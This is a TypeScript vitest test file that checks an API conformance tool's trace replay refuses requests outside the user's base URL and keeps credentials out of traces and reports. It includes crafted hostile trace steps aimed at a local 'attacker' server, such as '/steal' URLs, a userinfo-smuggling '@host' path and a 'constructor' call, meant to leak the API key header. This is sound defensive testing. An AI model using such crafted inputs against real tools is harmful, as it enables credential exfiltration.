/**
 * Traces are data from anywhere: replay sends their requests to the base URL the user gives and
 * nowhere else, and calls no adapter member that is no fixture. Traces and JSON reports hold
 * placeholders, never the keys and tokens a run used or was answered.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { allCases } from '../../src/cases/index.js';
import { main } from '../../src/cli.js';
import { requiredCapabilities } from '../../src/needs.js';
import { withoutCredentials } from '../../src/report/json.js';
import type { Step, Trace } from '../../src/trace.js';
import { type Hostile, hostileServer } from './hostile-servers.js';

const ADMIN_KEY = 'sk-vendor-admin01-REALADMINKEY0123456789';
const WORKSPACE_KEY = 'sk-vendor-api03-REALWORKSPACEKEY0123456789';
const TOKEN = 'sk-vendor-oat01-MINTEDACCESSTOKEN0123456789';
const keys = [
  '--admin-key',
  ADMIN_KEY,
  '--workspace-key',
  WORKSPACE_KEY,
  '--workspace-id',
  'wrkspc_01',
  '--organization-id',
  'org',
];

const dir = mkdtempSync(join(tmpdir(), 'replay-secrets-'));
let attacker: Hostile;
let base: Hostile;
beforeAll(async () => {
  attacker = await hostileServer((_req, res) => res.writeHead(200).end());
  // The user's server: `/next` names a place on the attacker's host; every other request is a 500
  // that echoes the key it got and carries a minted token.
  base = await hostileServer((req, res) => {
    if (req.url === '/') return void res.writeHead(404).end();
    if (req.url === '/next')
      return void res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ results_url: `${attacker.url}/results_steal01` }));
    res
      .writeHead(500, { 'content-type': 'application/json' })
      .end(JSON.stringify({ access_token: TOKEN, got: req.headers['x-api-key'] ?? null }));
  });
});
afterAll(async () => {
  await attacker.close();
  await base.close();
  rmSync(dir, { recursive: true, force: true });
});
afterEach(() => vi.restoreAllMocks());

const capture = () => {
  const out: string[] = [];
  const err: string[] = [];
  vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void err.push(a.join(' ')));
  return { out, err };
};

const http = (target: string, bind: Record<string, string> = {}): Step => ({
  kind: 'http',
  request: { method: 'GET', target, headers: { 'x-api-key': '{{admin_key}}' } },
  expect: [{ kind: 'status', equals: 200 }],
  bind,
});

function traceFile(name: string, steps: Step[]): string {
  const trace: Trace = {
    format: 'vendor-api-conformance-trace',
    version: 1,
    caseId: 'crafted',
    title: 'crafted',
    requirements: [],
    seed: 1,
    failure: { step: 0, message: 'crafted' },
    steps,
  };
  const path = join(dir, `${name}.trace.json`);
  writeFileSync(path, JSON.stringify(trace));
  return path;
}

describe('replay of a crafted trace', () => {
  const attackerHost = () => new URL(attacker.url).host;
  const crafted: [string, () => Step[], RegExp][] = [
    [
      'an absolute URL on another host',
      () => [http(`${attacker.url}/steal`)],
      /step 0 sends GET .* outside the base URL/,
    ],
    [
      'a path that turns the base URL into user info',
      () => [http(`@${attackerHost()}/steal`)],
      /step 0 sends GET .* outside the base URL/,
    ],
    [
      'a URL bound from an answer of the user’s server',
      () => [http('/next', { v1: '/results_url' }), http('{{v1}}')],
      /step 1 would send GET .* outside the base URL/,
    ],
    [
      'a fixture step that is no fixture of the adapter',
      () => [{ kind: 'fixture', call: 'constructor', args: [], bind: {} }, http(`${attacker.url}/x`)],
      /step 0 calls "constructor", which is no fixture of the adapter/,
    ],
    [
      'a binding of a credential placeholder',
      () => [http('/next', { admin_key: '/results_url' })],
      /step 0 binds \{\{admin_key\}\}: a trace never sets a credential/,
    ],
  ];
  for (const [name, steps, message] of crafted)
    it(`refuses ${name} (exit 2, nothing sent elsewhere)`, async () => {
      const seen = attacker.seen.length;
      const { out, err } = capture();
      const code = await main([
        'replay',
        traceFile(name.replace(/\W+/g, '-'), steps()),
        '--base-url',
        base.url,
        ...keys,
      ]);
      expect({ code, fixed: out.some((l) => l.startsWith('fixed')) }).toEqual({ code: 2, fixed: false });
      expect(err).toHaveLength(1);
      expect(err[0]).toMatch(message);
      expect(attacker.seen.length - seen).toBe(0);
    });
});

describe('traces and JSON reports', () => {
  it('hold placeholders, not the keys a run sent nor the tokens it was answered', async () => {
    const plain = allCases.find((c) => requiredCapabilities(c.needs).length === 0)!;
    const traceDir = join(dir, 'traces');
    const json = join(dir, 'report.json');
    capture();
    const code = await main([
      'run',
      '--base-url',
      base.url,
      ...keys,
      '--case',
      plain.id,
      '--trace-dir',
      traceDir,
      '--json',
      json,
      '--runs',
      '1',
    ]);
    expect(code).toBe(1);
    const written = [
      readFileSync(json, 'utf8'),
      ...readdirSync(traceDir).map((f) => readFileSync(join(traceDir, f), 'utf8')),
    ];
    expect(written.length).toBeGreaterThan(1);
    for (const text of written) {
      expect(text).toContain('{{workspace_key}}');
      for (const secret of [ADMIN_KEY, WORKSPACE_KEY, TOKEN]) expect(text).not.toContain(secret);
    }
  });
});

describe('the JSON report', () => {
  it('writes the base URL without the credentials it may carry', () => {
    expect(withoutCredentials('https://user:pass@api.example.test/v1')).toBe('https://api.example.test/v1');
    expect(withoutCredentials('https://api.example.test')).toBe('https://api.example.test');
  });
});
